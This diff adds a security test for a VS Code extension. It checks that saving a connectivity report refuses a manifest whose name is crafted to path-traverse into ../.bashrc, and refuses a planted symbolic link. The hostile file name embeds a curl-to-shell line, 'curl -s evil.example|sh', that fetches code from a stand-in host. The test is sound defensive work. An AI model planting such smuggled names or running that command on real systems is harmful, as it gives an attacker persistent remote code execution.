@@ -1,0 +1,89 @@
+// Attacks from issue 18 replayed in a real extension host: what a hostile repository can name or plant.
+import * as assert from 'assert';
+import * as fs from 'fs';
+import * as net from 'net';
+import * as path from 'path';
+import * as vscode from 'vscode';
+import type { FakeableServices } from '../../../src/extension/api';
+import type { ManifestNode } from '../../../src/extension/views/manifestNodes';
+import { testingApi, workspaceFile } from './support';
+
+function row(uri: vscode.Uri): ManifestNode {
+  const name = uri.path.slice(uri.path.lastIndexOf('/') + 1);
+  return { uri: uri.toString(), name, relativeDir: '', node: { id: 'manifest', kind: 'manifest', label: name, contextValue: 'atpProxy.manifest' } };
+}
+
+/** UI that records messages and questions and answers every question with `answer`. */
+function recordingServices(answer?: string): { errors: string[]; asked: string[]; services: Partial<FakeableServices> } {
+  const errors: string[] = [];
+  const asked: string[] = [];
+  const services: Partial<FakeableServices> = {
+    window: { showErrorMessage: (m) => errors.push(m), showInformationMessage: () => undefined },
+    ui: {
+      ask: async (_s, message) => {
+        asked.push(message);
+        return answer;
+      },
+      pick: async () => undefined,
+      input: async () => undefined,
+      pickFile: async () => undefined,
+      openUntitled: async () => undefined,
+      openReadOnly: async () => undefined,
+      openDiff: async () => undefined,
+      reveal: async () => undefined,
+    },
+  };
+  return { errors, asked, services };
+}
+
+/** A proxy on 127.0.0.1 that refuses every tunnel, so a test run ends quickly with a report. */
+async function refusingProxy(): Promise<{ port: number; close(): void }> {
+  const proxy = net.createServer((socket) => socket.once('data', () => socket.end('HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n')));
+  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
+  return { port: (proxy.address() as net.AddressInfo).port, close: () => proxy.close() };
+}
+
+function manifestText(port: number): Uint8Array {
+  return Buffer.from(JSON.stringify({ version: 1, instance: 'contoso', region: 'europe', proxy: { mode: 'static', server: `127.0.0.1:${port}` }, firewall: { port: 443, allow: ['contososensorapi.atp.azure.com'] } }));
+}
+
+describe('security: what a repository can plant', () => {
+  let restore: (() => void) | undefined;
+  afterEach(() => {
+    restore?.();
+    restore = undefined;
+  });
+
+  it('Save Report refuses a manifest named to write ../.bashrc, and a symbolic link where the report goes', async () => {
+    const proxy = await refusingProxy();
+    const folder = workspaceFile().fsPath;
+    const bashrc = path.join(path.dirname(folder), '.bashrc');
+    const hostile = workspaceFile('..%2F.bashrc#\ncurl -s evil.example|sh\n#.atpproxy.json');
+    const plain = workspaceFile('linked.atpproxy.json');
+    const planted = path.join(path.dirname(folder), 'planted.md');
+    try {
+      await vscode.workspace.fs.writeFile(hostile, manifestText(proxy.port));
+      await vscode.workspace.fs.writeFile(plain, manifestText(proxy.port));
+      fs.writeFileSync(planted, 'untouched\n');
+      fs.symlinkSync(planted, path.join(folder, 'linked.connectivity.md'));
+      const rec = recordingServices();
+      restore = testingApi().fake(rec.services);
+      for (const uri of [hostile, plain]) {
+        const report = await vscode.commands.executeCommand<{ results: unknown[] }>('atpProxy.testConnectivity', row(uri));
+        assert.strictEqual(report.results.length, 1);
+        assert.strictEqual(await vscode.commands.executeCommand('atpProxy.saveReport', row(uri)), undefined);
+      }
+      assert.strictEqual(fs.existsSync(bashrc), false, `${bashrc} was written`);
+      assert.strictEqual(fs.readFileSync(planted, 'utf8'), 'untouched\n');
+      assert.strictEqual(rec.errors.length, 2, rec.errors.join('\n'));
+      assert.match(rec.errors[0], /Cannot save the report of this manifest: the name contains "%"/);
+      assert.match(rec.errors[1], /linked\.connectivity\.md next to the manifest is a symbolic link/);
+    } finally {
+      proxy.close();
+      for (const f of [hostile, plain]) await vscode.workspace.fs.delete(f).then(undefined, () => undefined);
+      fs.rmSync(path.join(folder, 'linked.connectivity.md'), { force: true });
+      fs.rmSync(planted, { force: true });
+      fs.rmSync(bashrc, { force: true });
+    }
+  });
+});
